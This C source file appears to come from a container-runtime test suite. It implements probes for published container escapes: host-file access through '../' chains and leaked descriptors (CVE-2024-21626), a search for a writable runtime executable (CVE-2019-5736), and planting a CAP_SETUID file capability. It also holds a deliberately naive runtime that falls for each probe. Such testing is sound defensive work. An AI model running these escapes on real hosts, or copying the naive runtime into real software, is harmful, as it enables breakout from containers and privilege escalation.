/*
 * What published escapes from containers come down to, once a process is inside; and the simplest runtime, which falls
 * for each.
 */
#include "attack.h"
#include <dirent.h>
#include <limits.h>
#include <linux/capability.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/xattr.h>

#ifndef F_SEAL_WRITE
#define F_SEAL_WRITE 0x0008
#endif

/*
 * CVE-2024-21626: a working directory, or a descriptor that was left open, lies in the host's tree: from there a file
 * of the host's is reached.
 */
static long from_here(char **a) {
    char *marker = needed(a, 0), path[PATH_MAX] = "";
    for (int up = 0; up < 32; up++)
        strcat(path, "../");
    strncat(path, marker + 1, sizeof path - strlen(path) - 1);
    for (int at = -1; at < 1024; at++) {
        int found = openat(at < 0 ? AT_FDCWD : at, path, O_RDONLY);
        if (found >= 0)
            return found;
    }
    errno = ENOENT;
    return -1;
}

/*
 * Whether a process's program is of this root: its path leads to the same file here, or, where this is a view of a
 * transaction, to what that is made of.
 */
static int is_ours(const char *exe, const struct stat *found) {
    char target[PATH_MAX];
    struct stat there;
    ssize_t length = readlink(exe, target, sizeof target - 1);
    target[length > 0 ? length : 0] = 0;
    return length > 0 && !stat(target, &there) && there.st_size == found->st_size && there.st_mtim.tv_sec == found->st_mtim.tv_sec &&
           there.st_mtim.tv_nsec == found->st_mtim.tv_nsec;
}

/*
 * CVE-2019-5736: the program of a process that is not of this root can be had, and once nobody runs it any more it can
 * be written to.
 */
static long program_of_the_runtime(char **a) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    (void)a;
    while (proc && (entry = readdir(proc))) {
        char exe[300];
        struct stat found;
        snprintf(exe, sizeof exe, "/proc/%s/exe", entry->d_name);
        int program = entry->d_name[0] < '0' || entry->d_name[0] > '9' ? -1 : open(exe, O_RDONLY | O_CLOEXEC);
        if (program < 0)
            continue;
        /* What is sealed is written to by nobody ever. */
        int seals = fcntl(program, F_GET_SEALS);
        if (!fstat(program, &found) && !is_ours(exe, &found) && (seals < 0 || !(seals & F_SEAL_WRITE)))
            return 0;
        close(program);
    }
    errno = EACCES;
    return -1;
}

/* CVE-2024-40635: a user who is named by a number that means none is root. */
static long root_by_number(char **a) {
    (void)a;
    errno = EPERM;
    return geteuid() == 0 ? 0 : -1;
}

/* What a path leads to is read: one that a runtime opens in a guest's name leads to what it has open itself. */
static long reads(char **a) {
    char byte;
    int found = open(needed(a, 0), O_RDONLY | O_NOCTTY | O_NONBLOCK);
    return found >= 0 && read(found, &byte, 1) == 1 ? 0 : -1;
}

/*
 * enter TREE DIRECTORY USER PROGRAM…: the simplest runtime: changes its root, then its directory, then its user, and
 * executes, each by the name that it is given.
 */
static long enter(char **a) {
    unsigned user = (unsigned)strtoul(needed(a, 2), NULL, 10);
    needed(a, 3);
    if (chroot(a[0]) || chdir(a[1]) || (user && syscall(SYS_setresuid, user, user, user)))
        return -1;
    execv(a[3], a + 3);
    return -1;
}

/* Locks what a descriptor stands for, tells of it in /locked, and stays. */
static long keep_locked(char **a) {
    if (flock(atoi(needed(a, 0)), LOCK_EX | LOCK_NB))
        return -1;
    close(open("/locked", O_WRONLY | O_CREAT, 0600));
    for (;;)
        pause();
}

/*
 * CVE-2021-3493's kind: a file gives whoever executes it a capability, as set-user-id files give him their owner's id.
 */
static long give_capability(char **a) {
    struct vfs_cap_data data = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE };
    data.data[0].permitted = 1u << CAP_SETUID;
    return setxattr(needed(a, 0), "security.capability", &data, sizeof data, 0);
}

const struct attack published[] = {
    { "from-here", from_here, 0 },
    { "program-of-the-runtime", program_of_the_runtime, 0 },
    { "root-by-number", root_by_number, 0 },
    { "reads", reads, 0 },
    { "enter", enter, 0 },
    { "keep-locked", keep_locked, 0 },
    { "give-capability", give_capability, 0 },
    { 0 },
};
